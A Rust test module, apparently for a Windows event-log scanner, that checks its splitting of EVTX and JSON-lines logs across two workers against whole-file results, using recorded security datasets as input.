            "cancels while held ({seen_held}) and after the merge ({seen_merged})"
        );
    }

    /// What range `range`'s worker of an EVTX log cut at `boundary` sends
    /// (the first reading on when `read_on`), in 64 KiB pieces.
    fn evtx_messages(bytes: &[u8], boundary: u64, range: usize, read_on: bool) -> Vec<FromWorker> {
        let rule = CompiledRule::new();
        let s = if range == 0 {
            ScanSession::new(&rule, JOB, 0, "test", None)
                .expect("session")
                .evtx_first_range()
        } else {
            ScanSession::new(&rule, JOB, 0, "test", Some("evtx"))
                .expect("session")
                .evtx_later_range(&bytes[..split::evtx::HEADER_BYTES], boundary)
                .expect("a chunk boundary")
        };
        worker_messages(s, bytes, boundary, range, Some(read_on), 65_536)
    }

    /// The two ranges of an EVTX log through a [`SplitJob`], the first
    /// range's messages after its `RangeRead` held back until the job has
    /// decided (as its worker waits), in the order `prefer` gives.
    fn through_split_evtx(
        bytes: &[u8],
        boundary: u64,
        prefer: fn(usize) -> usize,
    ) -> Vec<SplitOut> {
        let second = evtx_messages(bytes, boundary, 1, false);
        let held = second
            .iter()
            .any(|m| matches!(m, FromWorker::RangeRead { held: true, .. }));
        let first = evtx_messages(bytes, boundary, 0, !held);
        let job = SplitJob::evtx(JOB, bytes.len() as u64, boundary);
        let (out, decided) = through_waiting_split(job, first, second, prefer);
        assert_eq!(
            decided,
            Some(!held),
            "the first range is told to read on iff the second did not stand alone"
        );
        out
    }

    /// Two ranges' messages through `job`, the first range's messages after
    /// its `RangeRead` held back until the job has decided (as its worker
    /// waits), in the order `prefer` gives; what the page applies and the
    /// decision it sent.
    fn through_waiting_split(
        mut job: SplitJob,
        first: Vec<FromWorker>,
        second: Vec<FromWorker>,
        prefer: fn(usize) -> usize,
    ) -> (Vec<SplitOut>, Option<bool>) {
        let cut = first
            .iter()
            .position(|m| matches!(m, FromWorker::RangeRead { .. }))
            .expect("a RangeRead")
            + 1;
        let mut queues = [first.into_iter(), second.into_iter()];
        let (mut sent_first, mut decided) = (0, None);
        let mut out = Vec::new();
        for i in 0.. {
            let gate = sent_first >= cut && decided.is_none();
            let r = if gate { 1 } else { prefer(i) };
            let (m, from) = match queues[r].next() {
                Some(m) => (m, r),
                None if gate => break,
                None => match queues[1 - r].next() {
                    Some(m) => (m, 1 - r),
                    None => break,
                },
            };
            sent_first += usize::from(from == 0);
            for o in job.receive(from, m) {
                if let SplitOut::Decide(d) = o {
                    assert!(decided.is_none(), "one decision");
                    decided = Some(d);
                }
                out.push(o);
            }
        }
        (out, decided)
    }

    #[test]
    fn a_split_evtx_log_gives_the_whole_logs_rows_summary_and_accounts() {
        let files = shared_files(&["evtx"]);
        let (mut split, mut rescanned) = (0, 0);
        for path in &files {
            let bytes = std::fs::read(path).expect("readable");
            let head = &bytes[..bytes.len().min(split::evtx::HEADER_BYTES)];
            let Some(plan) = split::evtx::plan(head, bytes.len() as u64, 2) else {
                continue;
            };
            split += 1;
            let boundary = plan.starts[1];
            let name = path.display().to_string();
            for (i, order) in ORDERS.iter().enumerate() {
                let out = through_split_evtx(&bytes, boundary, *order);
                rescanned +=
                    usize::from(i == 0 && out.iter().any(|o| matches!(o, SplitOut::Decide(true))));
                check(&format!("{name}, order {i}"), &bytes, out, 6);
            }
        }
        assert!(split >= 10, "{split} logs split");
        eprintln!("{split} EVTX logs split, {rescanned} read on by the first range");
    }

    /// The JSON lines plan the bridge makes for `bytes` cutting at fraction
    /// `at` (its head and a window there).
    fn json_plan_at(bytes: &[u8], at: f64) -> Option<JsonPlan> {
        let size = bytes.len() as u64;
        let head = &bytes[..bytes.len().min(split::HEAD_BYTES)];
        let (start, end) = split::window(size, at);
        split::json::plan(head, &[(start, &bytes[start as usize..end as usize])], size)
            .filter(|p| first_range_fits(p.starts[0]))
    }

    /// The core's word on the seam of `plan`: `true` (read on) unless the
    /// first range's lines are clean and the second stands alone.
    fn json_reads_on(bytes: &[u8], plan: &JsonPlan) -> bool {
        let rule = CompiledRule::new();
        let b = plan.starts[0] as usize;
        let mut first = JsonRangeScan::first(FileScan::new(&rule, 0, "test", None), plan);
        first.push(&bytes[..b]);
        let mut second = JsonRangeScan::after(
            FileScan::new(&rule, 0, "test", Some(Format::Json)),
            b as u64,
        );
        second.push(&bytes[b..]);
        !(first.clean() && second.stands_alone())
    }

    /// What range `range`'s worker of a JSON lines file split by `plan`
    /// sends (the first reading on when `read_on`), in `chunk`-byte pieces.
    fn json_messages(
        bytes: &[u8],
        plan: &JsonPlan,
        range: usize,
        read_on: bool,
        chunk: usize,
    ) -> Vec<FromWorker> {
        let rule = CompiledRule::new();
        let s = if range == 0 {
            ScanSession::new(&rule, JOB, 0, "test", None)
                .expect("session")
                .json_first_range(plan.bom, plan.starts[0])
        } else {
            ScanSession::new(&rule, JOB, 0, "test", Some("json"))
                .expect("session")
                .json_later_range(plan.starts[0])
        };
        worker_messages(s, bytes, plan.starts[0], range, Some(read_on), chunk)
    }

    /// The two ranges of a JSON lines file through a [`SplitJob`] (the
    /// first waiting for the page's word after its range), in the order
    /// `prefer` gives; the page must say read on exactly when the core's
    /// seam does not hold. What the page applies, and whether it read on.
    fn through_split_json(
        bytes: &[u8],
        plan: &JsonPlan,
        chunk: usize,
        prefer: fn(usize) -> usize,
    ) -> (Vec<SplitOut>, bool) {
        let read_on = json_reads_on(bytes, plan);
        let first = json_messages(bytes, plan, 0, read_on, chunk);
        let second = json_messages(bytes, plan, 1, false, chunk);
        let job = SplitJob::json(JOB, bytes.len() as u64, plan.starts[0]);
        let (out, decided) = through_waiting_split(job, first, second, prefer);
        assert_eq!(
            decided,
            Some(read_on),
            "the first range is told to read on iff the core's seam does not hold"
        );
        (out, read_on)
    }

    #[test]
    fn a_split_json_lines_file_gives_the_whole_files_rows_summary_and_accounts() {
        let files = shared_files(&["json", "jsonl", "ndjson"]);
        let (mut split, mut rows, mut later_rows) = (0, 0, 0);
        for path in &files {
            let bytes = std::fs::read(path).expect("readable");
            let Some(plan) = json_plan_at(&bytes, 0.5) else {
                continue;
            };
            split += 1;
            // Rows of the second range: their positions are shifted.
            let (_, want_rows) = crate::testdata::scan_all(&bytes, 0, None);
            later_rows += want_rows
                .iter()
                .filter(|r| r.position.byte >= plan.starts[0])
                .count();
            let name = path.display().to_string();
            // Debug builds decode slowly: fewer orders for the biggest logs.
            let orders = match bytes.len() {
                n if n > 8 << 20 => 1,
                n if n > 1 << 20 => 2,
                _ => ORDERS.len(),
            };
            for (i, order) in ORDERS.iter().enumerate().take(orders) {
                let (out, read_on) = through_split_json(&bytes, &plan, 65_536, *order);
                assert!(!read_on, "{name}: a real file's seam holds");
                rows += out
                    .iter()
                    .filter(|o| matches!(o, SplitOut::Message(FromWorker::Rows { .. })))
                    .count();
                let checks = if bytes.len() > 1 << 20 { 3 } else { 12 };
                check(&format!("{name}, order {i}"), &bytes, out, checks);
            }
            // Other cut points, for the smaller logs.
            if bytes.len() <= 1 << 20 {
                for at in [0.05, 0.3, 0.95] {
                    let Some(plan) = json_plan_at(&bytes, at) else {
                        continue;
                    };
                    let (out, _) = through_split_json(&bytes, &plan, 4096, ORDERS[3]);
                    check(&format!("{name}, cut at {at}"), &bytes, out, 6);
                }
            }
        }
        assert!(split >= 8, "{split} JSON lines files split");
        assert!(
            rows > 0 && later_rows > 0,
            "rows sent, {later_rows} of second ranges"
        );
        eprintln!("{split} JSON lines files split");
    }

    /// A real JSON lines log with the line at fraction `at` spread over two
    /// lines (a line break after its `{`: still the same event to the
    /// decoder, but not a clean line).
    fn with_unclean_line(bytes: &[u8], at: f64) -> Vec<u8> {
        let from = (bytes.len() as f64 * at) as usize;
        let nl = from
            + bytes[from..]
                .iter()
                .position(|&b| b == b'\n')
                .expect("a line");
        let brace = nl + 1 + bytes[nl + 1..].iter().position(|&b| b == b'{').expect("{");
        let mut out = bytes[..=brace].to_vec();
        out.push(b'\n');
        out.extend_from_slice(&bytes[brace + 1..]);
        out
    }

    /// A real Security log whose 4688 events after the middle lose their
    /// `ParentProcessName` (as older Windows logs them): the scan looks
    /// their parents up among earlier process creations.
    fn without_parent_names_after_the_middle(bytes: &[u8]) -> Vec<u8> {
        const KEY: &[u8] = b"\"ParentProcessName\":\"";
        let middle = bytes.len() / 2;
        let mut out = Vec::with_capacity(bytes.len());
        for line in bytes.split_inclusive(|&b| b == b'\n') {
            const EVENT: &[u8] = b"\"EventID\":4688,";
            let is_4688 = line.windows(EVENT.len()).any(|w| w == EVENT);
            let key = line.windows(KEY.len()).position(|w| w == KEY);
            match key {
                Some(k) if out.len() >= middle && is_4688 => {
                    // The value's end: the next quote not escaped.
                    let mut j = k + KEY.len();
                    while line[j] != b'"' {
                        j += if line[j] == b'\\' { 2 } else { 1 };
                    }
                    let mut end = j + 1;
                    if line[end] == b',' {
                        end += 1;
                    }
                    out.extend_from_slice(&line[..k]);
                    out.extend_from_slice(&line[end..]);
                }
                _ => out.extend_from_slice(line),
            }
        }
        out
    }

    #[test]
    fn a_json_seam_that_does_not_hold_is_read_on_by_the_first_range() {
        let Some(psexec) = shared_data("otrf/cmd_psexec_lsa_secrets_dump_2020-10-1903305471.json")
        else {
            return; // no shared data in this checkout
        };
        // The last 400 KB of lines of a Security log, whose cmd.exe 4688
        // event then lies in the second range.
        let security = shared_data("otrf/aptsimulator_cobaltstrike_2021-06-11T21081492.json")
            .expect("shared data");
        let from = security.len() - 400_000;
        let from = from
            + security[from..]
                .iter()
                .position(|&b| b == b'\n')
                .expect("a line")
            + 1;
        let security = &security[from..];
        // Each case fails the seam one way: (first range clean, second
        // range clean, second range stands alone).
        let cases = [
            (
                "unclean line in the first range",
                with_unclean_line(&psexec, 0.25),
                (false, true, true),
            ),
            (
                "unclean line in the second range",
                with_unclean_line(&psexec, 0.75),
                (true, false, false),
            ),
            (
                "4688 parents looked up in the second range",
                without_parent_names_after_the_middle(security),
                (true, true, false),
            ),
        ];
        let rule = CompiledRule::new();
        for (name, bytes, want) in &cases {
            let plan = json_plan_at(bytes, 0.5).expect("a plan");
            let b = plan.starts[0] as usize;
            // The core's words on the seam: each case fails it one way.
            let mut first = JsonRangeScan::first(FileScan::new(&rule, 0, "t", None), &plan);
            first.push(&bytes[..b]);
            let mut second =
                JsonRangeScan::after(FileScan::new(&rule, 0, "t", Some(Format::Json)), b as u64);
            second.push(&bytes[b..]);
            let words = (first.clean(), second.clean(), second.stands_alone());
            assert_eq!(words, *want, "{name}: the core's words on the seam");
            for (i, order) in ORDERS.iter().enumerate() {
                let (out, read_on) = through_split_json(bytes, &plan, 4096, *order);
                assert!(read_on, "{name}: read on");
                assert!(
                    out.iter().any(|o| matches!(o, SplitOut::StopSecond)),
                    "{name}, order {i}: the second worker is stopped"
                );
                check(&format!("{name}, order {i}"), bytes, out, 12);
            }
        }
    }

    /// The page fragment's settings, in any order, ignoring what they do not
    /// name or cannot parse.
    #[test]
    fn settings_from_hash() {
        let d = SplitSettings::default();
        let cases: &[(&str, SplitSettings)] = &[
            ("", d),
            ("#", d),
            ("#other=1", d),
            (
                "#split-threshold=8192",
                SplitSettings {
                    threshold: 8192,
                    ..d
                },
            ),
            (
                "#split-threshold=8192&split-at=0.25",
                SplitSettings {
                    threshold: 8192,
                    at: 0.25,
                    ..d
                },
            ),
            ("#split-at=1.5&split-threshold=x", d),
            ("#reader=stream", SplitSettings { byob: false, ..d }),
            ("#reader=byob", d),
            (
                "#split-at=0.75&reader=stream&split-threshold=1",
                SplitSettings {
                    threshold: 1,
                    at: 0.75,
                    byob: false,
                    ..d
                },
            ),
            ("#warm-up=0", SplitSettings { warm_up: 0, ..d }),
            (
                "#reader=stream&warm-up=4096",
                SplitSettings {
                    byob: false,
                    warm_up: 4096,
                    ..d
                },
            ),
            ("#warm-up=-1", d),
        ];
        assert_eq!(d.threshold, split::SPLIT_THRESHOLD);
        assert!(d.byob);
        for (hash, want) in cases {
            assert_eq!(SplitSettings::from_hash(hash), *want, "{hash}");
        }
    }
}
